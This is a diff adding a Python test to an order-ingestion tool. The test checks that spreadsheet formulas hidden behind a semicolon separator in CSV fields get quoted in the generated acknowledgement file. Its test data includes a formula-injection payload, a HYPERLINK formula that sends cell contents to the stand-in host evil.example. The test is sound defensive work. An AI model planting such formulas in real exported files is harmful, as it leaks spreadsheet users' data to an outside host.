@@ -94,3 +94,32 @@ def test_the_ack_of_an_order_carrying_a_formula_shows_it_as_text_and_each_reason
     price_reason = next(r for r in order["hold_reasons"] if "PO price" in r)
     assert acked[0]["reason"].count(price_reason) == 1
     assert [r["quantity"] for r in acked] == ["2", "1"]
+
+
+def test_formulas_behind_a_separator_in_the_po_number_and_buyer_part_are_quoted_in_the_ack(
+        tmp_path, monkeypatch, capsys):
+    # Excel set to ";" as separator (German locale) splits such a cell and runs its second half.
+    monkeypatch.setenv("ORDERGATE_HOME", str(tmp_path / "home"))
+    monkeypatch.delenv("ORDERGATE_DATABASE_URL", raising=False)
+    assert run(capsys, "seed", str(ROOT / "samples" / "masterdata"))[0] == 0
+    po_number = 'X;=HYPERLINK("http://evil.example/?"&A1;"click")'
+    path = tmp_path / "po.csv"
+    with path.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["po_number", "buyer_part", "sku", "quantity", "uom", "unit_price",
+                         "ship_to_name", "ship_to_street", "ship_to_city", "ship_to_postal_code",
+                         "ship_to_country"])
+        writer.writerow([po_number, ";@SUM(1+1)", "HW-1001", "2", "CS", "", "Acme DC East",
+                         "400 Industrial Pkwy", "Columbus", "43215", "US"])
+
+    code, out = run(capsys, "ingest", str(path), "--customer", "ACME", "--json")
+    [document] = json.loads(out)["documents"]
+    [ack] = document["outbound"]
+    with Path(ack["path"]).open(encoding="utf-8", newline="") as handle:
+        [acked] = list(csv.DictReader(handle))
+    assert acked["po_number"] == 'X;\'=HYPERLINK("http://evil.example/?"&A1;"click")'
+    assert acked["buyer_part"] == ";'@SUM(1+1)"
+    # split at every ";" as that spreadsheet would, no piece starts a formula
+    raw = Path(ack["path"]).read_text(encoding="utf-8")
+    assert not any(piece.lstrip('"').startswith(("=", "@")) for line in raw.splitlines()
+                   for cell in line.split(",") for piece in cell.split(";"))
